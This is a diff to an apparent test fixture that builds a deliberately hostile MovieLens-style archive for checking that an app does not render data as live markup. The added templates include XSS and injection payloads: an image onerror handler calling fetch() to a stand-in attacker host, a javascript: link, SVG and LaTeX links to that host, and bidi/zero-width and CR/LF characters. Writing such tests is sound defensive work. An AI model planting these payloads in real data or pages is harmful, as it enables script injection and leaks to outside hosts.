@@ -1,8 +1,9 @@
 """A hostile MovieLens-shaped archive, generated: ratings.csv + movies.csv in a zip whose user ids, item ids,
-titles, genres and file name carry Markdown, HTML, links, images, LaTeX, Streamlit colour directives,
-newlines and a 5,000-character string. Each payload wraps a token (``T`` + a number) that no page writes by
-itself, so a test can tell an element the data created (the token without the payload's markup around it)
-from the same text shown literally (the whole payload)."""
+titles, genres and file name carry Markdown, HTML, links (``https:``, ``javascript:``), images, LaTeX, Streamlit
+colour directives and icons, SVG, bidi and zero-width characters, CR/LF newlines and a 5,000-character string.
+Each payload wraps a token (``T`` + a number) that no page writes by itself, so a test can tell an element the
+data created (the token without the payload's markup around it) from the same text shown literally (the whole
+payload)."""
 
 from __future__ import annotations
 
@@ -37,6 +38,19 @@ TEMPLATES = (
     "<sup>{t}</sup>",
     "# {t}",
     "> {t}",
+    "<img src=x onerror=\"fetch('https://" + EVIL + "/e/{t}')\">",
+    "[{t}](javascript:alert('{t}'))",
+    "$\\href{{https://" + EVIL + "/h1/{t}}}{{{t}}}$",
+    ":blue[{t}]",
+    "<svg><a href=\"https://" + EVIL + "/s/{t}\"><text>{t}</text></a></svg>",
+    "\u202e{t}\u200b\u2066x\u2069",
+    "line\r\n# {t}\r\n- item",
+    ":material/home: {t} :smile:",
+    "<details open><summary>{t}</summary></details>",
+    "&lt;b&gt;{t}&amp;",
+    "- [ ] {t}",
+    "1. {t}",
+    "| {t} | x |\n|---|---|",
 )
 """Markup a renderer might interpret; ``{t}`` is the token it wraps."""
 
